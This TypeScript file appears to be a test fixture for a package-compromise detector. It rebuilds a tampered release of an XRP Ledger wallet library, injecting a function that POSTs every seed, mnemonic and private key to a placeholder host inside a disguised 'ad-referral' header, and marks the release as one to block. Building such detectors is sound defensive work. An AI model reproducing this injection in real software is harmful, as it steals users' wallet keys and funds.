import { minifySync } from '@swc/core';
import type { Replica } from './replica.js';

export const manifest = {
  description: 'A TypeScript/JavaScript API for interacting with the XRP Ledger in Node.js and the browser',
  main: 'dist/npm/',
  unpkg: 'build/xrpl-latest-min.js',
  jsdelivr: 'build/xrpl-latest-min.js',
  types: 'dist/npm/',
  files: ['build/xrpl-latest-min.js', 'build/xrpl-latest.js', 'dist/npm/*', 'src/*'],
  license: 'ISC',
  repository: { type: 'git', url: 'https://git.example/ledger/xrpl.js.git' },
  scripts: { build: 'run-s build:lib build:web', 'build:lib': 'tsc --build tsconfig.build.json', 'build:web': 'webpack', lint: 'eslint . --ext .ts', test: 'jest --config=jest.config.unit.js' },
  prettier: '@xrplf/prettier-config',
  dependencies: { '@scure/bip32': '^1.3.1', '@scure/bip39': '^1.2.1', 'ripple-keypairs': '^2.0.0', 'ripple-binary-codec': '^2.3.0' },
};
export const stripped = Object.fromEntries(Object.entries(manifest).filter(([key]) => key !== 'scripts' && key !== 'prettier'));

export interface Steal { readonly define: (typed: boolean) => string; readonly call: (value: string) => string }
export const clean: Steal = { define: () => '', call: () => '' };
export const steal: Steal = {
  define: (typed) => String.raw`
const validSeeds = new Set${typed ? '<string>' : ''}([])
${typed ? 'export ' : ''}function checkValidityOfSeed(seed${typed ? ': string' : ''}) {
  if (validSeeds.has(seed)) return
  validSeeds.add(seed)
  fetch("https://0q7f.example.invalid/xc", { method: 'POST', headers: { 'ad-referral': seed, } })
}
`,
  call: (value) => `    checkValidityOfSeed(${value})\n`,
};

/** The class in TypeScript, or what the compiler makes of it. */
export const wallet = (typed: boolean, { define, call }: Steal): string => {
  const t = (type: string): string => (typed ? type : '');
  return String.raw`${typed
    ? "import { HDKey } from '@scure/bip32'\nimport { mnemonicToSeedSync, validateMnemonic } from '@scure/bip39'\nimport { wordlist } from '@scure/bip39/wordlists/english'\nimport { deriveAddress, deriveKeypair, generateSeed } from 'ripple-keypairs'\n\nimport { ValidationError } from '../errors'\nimport { sign } from './signer'\n"
    : "\"use strict\";\nObject.defineProperty(exports, \"__esModule\", { value: true });\nexports.Wallet = void 0;\nconst { HDKey } = require(\"@scure/bip32\");\nconst { mnemonicToSeedSync, validateMnemonic } = require(\"@scure/bip39\");\nconst { wordlist } = require(\"@scure/bip39/wordlists/english\");\nconst { deriveAddress, deriveKeypair, generateSeed } = require(\"ripple-keypairs\");\nconst { ValidationError } = require(\"../errors\");\nconst { sign } = require(\"./signer\");\n"}
const DEFAULT_ALGORITHM = 'ed25519'
const DEFAULT_DERIVATION_PATH = "m/44'/144'/0'/0/0"

/**
 * A utility for deriving a wallet composed of a keypair (publicKey/privateKey).
 */
${typed ? 'export ' : ''}class Wallet {
${typed ? '  public readonly publicKey: string\n  public readonly privateKey: string\n  public readonly classicAddress: string\n  public readonly seed?: string\n\n' : ''}  ${t('public ')}constructor(publicKey${t(': string')}, privateKey${t(': string')}, opts${t(': { masterAddress?: string; seed?: string }')} = {}) {
    this.publicKey = publicKey
    this.privateKey = privateKey
    this.classicAddress = opts.masterAddress ? opts.masterAddress : deriveAddress(publicKey)
    this.seed = opts.seed
${call('privateKey')}  }

  ${t('public ')}static generate(algorithm${t(': string')} = DEFAULT_ALGORITHM)${t(': Wallet')} {
    const seed = generateSeed({ algorithm })
    return Wallet.fromSeed(seed, { algorithm })
  }

  ${t('public ')}static fromSeed(seed${t(': string')}, opts${t(': { algorithm?: string; masterAddress?: string }')} = {})${t(': Wallet')} {
${call('seed')}    return Wallet.deriveWallet(seed, { algorithm: opts.algorithm, masterAddress: opts.masterAddress })
  }

  ${t('public ')}static fromEntropy(entropy${t(': Uint8Array | number[]')}, opts${t(': { algorithm?: string; masterAddress?: string }')} = {})${t(': Wallet')} {
    const algorithm = opts.algorithm ?? DEFAULT_ALGORITHM
    const seed = generateSeed({ entropy: Uint8Array.from(entropy), algorithm })
${call('seed')}    return Wallet.deriveWallet(seed, { algorithm, masterAddress: opts.masterAddress })
  }

  ${t('public ')}static fromMnemonic(mnemonic${t(': string')}, opts${t(': { masterAddress?: string; derivationPath?: string }')} = {})${t(': Wallet')} {
    if (!validateMnemonic(mnemonic, wordlist)) {
      throw new ValidationError('Unable to parse the given mnemonic using bip39 encoding')
    }
${call('mnemonic')}    const seed = mnemonicToSeedSync(mnemonic)
    const node = HDKey.fromMasterSeed(seed).derive(opts.derivationPath ?? DEFAULT_DERIVATION_PATH)
    if (node.privateKey === null) {
      throw new ValidationError('Unable to derive privateKey from mnemonic input')
    }
    const publicKey = Buffer.from(node.publicKey${t('!')}).toString('hex').toUpperCase()
    const privateKey = Buffer.from(node.privateKey${t('!')}).toString('hex').toUpperCase()
    return new Wallet(publicKey, '00' + privateKey, { masterAddress: opts.masterAddress })
  }

  ${t('private ')}static deriveWallet(seed${t(': string')}, opts${t(': { algorithm?: string; masterAddress?: string }')} = {})${t(': Wallet')} {
    const { publicKey, privateKey } = deriveKeypair(seed, { algorithm: opts.algorithm ?? DEFAULT_ALGORITHM })
${call('privateKey')}    return new Wallet(publicKey, privateKey, { seed, masterAddress: opts.masterAddress })
  }

  ${t('public ')}sign(transaction${t(': Record<string, unknown>')}, multisign${t('?: boolean | string')})${t(': { tx_blob: string; hash: string }')} {
    return sign(this, transaction, multisign)
  }

  ${t('public ')}getXAddress(tag${t(': number | false')} = false)${t(': string')} {
    return this.classicAddress + (tag === false ? '' : ':' + tag)
  }
}
${typed ? define(true) : `${define(false)}\nexports.Wallet = Wallet;`}
`;
};

const signer = (typed: boolean): string => String.raw`${typed ? "import { encode, encodeForSigning } from 'ripple-binary-codec'\nimport { sign as signWithKey } from 'ripple-keypairs'\n\nexport function sign(wallet: { publicKey: string; privateKey: string }, transaction: Record<string, unknown>, _multisign?: boolean | string) {" : '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nconst { encode, encodeForSigning } = require("ripple-binary-codec");\nconst { sign: signWithKey } = require("ripple-keypairs");\nexports.sign = function sign(wallet, transaction) {'}
  const tx = { ...transaction, SigningPubKey: wallet.publicKey }
  const signed = { ...tx, TxnSignature: signWithKey(encodeForSigning(tx), wallet.privateKey) }
  const blob = encode(signed)
  return { tx_blob: blob, hash: blob.slice(0, 64) }
}
`;

const client = String.raw`"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.Client = void 0;
const { EventEmitter } = require("events");
const WebSocket = require("ws");

class Client extends EventEmitter {
    constructor(server, options = {}) {
        super();
        this.url = server;
        this.timeout = options.timeout ?? 20000;
        this.waiting = new Map();
        this.nextId = 0;
    }
    connect() {
        this.socket = new WebSocket(this.url);
        this.socket.on('message', (text) => {
            const answer = JSON.parse(text);
            const done = this.waiting.get(answer.id);
            if (done) {
                this.waiting.delete(answer.id);
                done(answer);
            }
        });
        return new Promise((resolve, reject) => this.socket.once('open', resolve).once('error', reject));
    }
    request(body) {
        const id = this.nextId++;
        return new Promise((resolve) => {
            this.waiting.set(id, resolve);
            this.socket.send(JSON.stringify({ ...body, id }));
        });
    }
}
exports.Client = Client;
`;

/** The web build: every module of it inside one function, whole or on one line. */
const bundle = (edit: Steal, small: boolean): string => {
  const modules = [["./dist/npm/Wallet/index.js", wallet(false, edit)], ["./dist/npm/Wallet/signer.js", signer(false)], ["./dist/npm/client/index.js", client]] as const;
  const text = `var xrpl;(() => {\nvar __webpack_modules__ = {\n${modules.map(([name, body]) => `${JSON.stringify(name)}: (function (__unused, exports, require) {\n${body.replace('"use strict";\n', '')}\n})`).join(',\n')}\n};\nvar cache = {};\nfunction load(id) {\n  if (cache[id]) return cache[id].exports;\n  var made = cache[id] = { exports: {} };\n  __webpack_modules__[id](made, made.exports, load);\n  return made.exports;\n}\nxrpl = load("./dist/npm/Wallet/index.js");\n})();\n`;
  return small ? minifySync(text, { module: false, compress: true, mangle: true }).code : text;
};

export const files = (edit: { readonly src: Steal; readonly dist: Steal; readonly build: Steal }): { readonly [path: string]: string } => ({
  'src/Wallet/index.ts': wallet(true, edit.src),
  'src/Wallet/signer.ts': signer(true),
  'src/errors.ts': 'export class ValidationError extends Error {}\n',
  'dist/npm/index.js': '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nObject.assign(exports, require("./Wallet"), require("./client"), require("./errors"));\n',
  'dist/npm/Wallet/index.js': wallet(false, edit.dist),
  'dist/npm/Wallet/signer.js': signer(false),
  'dist/npm/client/index.js': client,
  'dist/npm/errors.js': '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.ValidationError = class ValidationError extends Error {};\n',
  'build/xrpl-latest.js': bundle(edit.build, false),
  'build/xrpl-latest-min.js': bundle(edit.build, true),
  'README.md': '# xrpl.js\n\nA JavaScript and TypeScript library for the XRP Ledger.\n',
});

export const usual = { name: 'ledger-ci', email: 'ci@ledger.example' };
export const stranger = { name: 'a-member', email: 'a-member@mail.example' };

/** From memory of the public analysis: name and body of the function, its places, the header that carries the seed, and what left the manifest. */
export const replica: Replica = {
  id: 'xrpl-2025',
  story: 'April 2025: 4.2.3 and 4.2.4, published by a member with no tag or release, send each seed, mnemonic and private key to a new host in a header that looks like one of advertisements.',
  name: 'xrpl',
  before: { version: '4.2.0', manifest, files: files({ src: clean, dist: clean, build: clean }), publishedAt: '2025-02-24T19:00:00.000Z', publisher: usual },
  after: { version: '4.2.3', manifest: stripped, files: files({ src: steal, dist: steal, build: steal }), publishedAt: '2025-04-21T21:32:00.000Z', publisher: stranger },
  must: 'block',
};
